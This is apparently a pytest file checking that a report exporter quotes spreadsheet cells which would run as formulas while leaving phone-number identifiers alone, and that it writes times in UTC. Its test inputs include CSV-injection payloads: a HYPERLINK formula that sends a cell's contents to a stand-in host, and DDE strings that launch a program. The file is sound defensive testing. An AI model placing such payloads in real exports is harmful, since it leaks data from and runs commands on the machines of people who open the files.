"""Report cells: formulas neutralised, identifiers left usable; times in UTC."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest

from dispatcher.operations.reports import OUTCOME_COLUMNS, safe_cell, write_outcomes


@pytest.mark.parametrize(
    "cell",
    [
        "+4791234567",
        "+47 912 34 567",
        "+4791234567 NO.abc123",
        "+4791234567 NO.abc123 NO.ENT.xyz789",
        "+4791234567 +46701234567",
    ],
)
def test_an_identifiers_cell_starting_with_a_plus_is_left_as_it_is(cell: str) -> None:
    assert safe_cell(cell) == cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "+4791234567 =1+1",
        "+4791234567 NO.abc123+1",
        "+4791234567  NO.abc123",
        "+4791234567\n=1+1",
        "+٤٧٩١٢٣٤٥٦٧",  # digits of another script
    ],
)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


def test_plain_text_is_left_as_it_is() -> None:
    assert safe_cell("merged into line 2: same phone number as line 2") == (
        "merged into line 2: same phone number as line 2"
    )


def test_the_outcome_report_writes_times_in_utc_to_the_second_and_identifiers_unquoted() -> None:
    oslo = timezone(timedelta(hours=1))
    row: list[object] = [None] * len(OUTCOME_COLUMNS)
    row[:4] = [2, "+4791234567 NO.abc123", "+4791234567", "read"]
    row[11:14] = [
        datetime(2026, 12, 2, 4, 25, 28, 123456),  # SQLite: no zone, UTC
        datetime(2026, 12, 2, 4, 25, 29, tzinfo=UTC),
        datetime(2026, 12, 2, 5, 25, 30, 999999, tzinfo=oslo),
    ]
    handle = io.StringIO()
    write_outcomes(handle, [row])
    (line,) = csv.DictReader(io.StringIO(handle.getvalue()))
    assert line["identifiers"] == "+4791234567 NO.abc123"
    assert [line[c] for c in ("submitted_at", "sent_at", "delivered_at", "read_at")] == [
        "2026-12-02T04:25:28+00:00",
        "2026-12-02T04:25:29+00:00",
        "2026-12-02T04:25:30+00:00",
        "",
    ]
